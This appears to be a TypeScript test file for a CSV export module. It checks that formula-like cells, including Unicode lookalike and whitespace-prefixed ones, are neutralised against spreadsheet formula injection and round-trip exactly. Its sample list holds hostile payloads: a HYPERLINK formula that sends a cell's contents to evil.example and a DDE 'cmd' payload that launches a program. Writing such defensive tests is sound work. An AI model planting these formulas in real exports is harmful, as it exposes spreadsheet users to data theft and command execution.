import fc from 'fast-check';
import { csvField, parseCsv, readFormulaSafe, toCsv } from './csv';

// What a spreadsheet would run if a cell started with it (OWASP CSV injection).
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0bcmd',
  '\uff20SUM(A1)',
  ' \t=1+1',
  ' \n=1+1',
  '\u2003=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u3000\t@SUM(A1)',
];

/** The cell as a spreadsheet sees it once the CSV is parsed: what starts its text. */
const cellOf = (field: string) => parseCsv(field)[0]?.cells[0] ?? '';

describe('CSV export cells', () => {
  it.each(FORMULAS)('neutralises %j so no spreadsheet runs it', (value) => {
    const cell = cellOf(csvField(value));
    expect(cell.startsWith("'")).toBe(true);
    expect(readFormulaSafe(cell)).toBe(value);
  });

  it.each(['plain', 'a=b', 'email@example.org', '3-4', 'a, "quoted" value', 'two\nlines', "'already quoted", ''])('leaves %j as it is and round-trips it', (value) => {
    const cell = cellOf(csvField(value) || '""');
    expect(cell).toBe(value);
    expect(readFormulaSafe(cell)).toBe(value);
  });

  it.each(["'=1+1", "''@x"])('gives back %j exactly after export and import (apostrophes before a formula)', (value) => {
    expect(readFormulaSafe(cellOf(csvField(value)))).toBe(value);
  });

  it.each(['  padded note  ', "\u3000'=1", "\u3000'\r-=", ' '])('keeps %j exactly, edge spaces included, through a quoted cell', (value) => {
    const [row] = parseCsv(`${csvField(value)}\r\n`);
    expect(row?.quoted).toEqual([true]);
    expect(readFormulaSafe(row?.cells[0] ?? '')).toBe(value);
  });

  it('writes whole documents with every cell neutralised and CRLF rows', () => {
    const doc = toCsv(['country', 'requests', 'note'], [
      ['DE', 12, '=1+1'],
      ['FR', 0, null],
    ]);
    expect(doc).toBe("country,requests,note\r\nDE,12,'=1+1\r\nFR,0,\r\n");
    expect(parseCsv(doc).map((r) => r.cells.map(readFormulaSafe))).toEqual([
      ['country', 'requests', 'note'],
      ['DE', '12', '=1+1'],
      ['FR', '0', ''],
    ]);
  });

  it('round-trips any value and neutralises any formula start, plain cells (ids, addresses, times) and the rest alike', () => {
    const chars = fc.constantFrom(...'aZ09_.:@/+=-\'" ,\t\r\n\u00a0\uff1d'.split(''));
    fc.assert(
      fc.property(fc.string({ unit: chars, maxLength: 12 }), (value) => {
        const field = csvField(value);
        const cell = parseCsv(`${field || '""'}\n`)[0]?.cells[0] ?? '';
        expect(readFormulaSafe(cell)).toBe(value);
        if (/^(?:[\t\r\n]|[ \u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(value.replace(/^'+/, ''))) expect(cell.startsWith("'")).toBe(true);
      }),
      { seed: 14, numRuns: 3000 },
    );
    for (const plain of ['user-12', '198.51.100.7', '2001:db8::1', '2026-01-01T00:00:00.000Z', 'a=b']) expect(csvField(plain)).toBe(plain);
  });
});
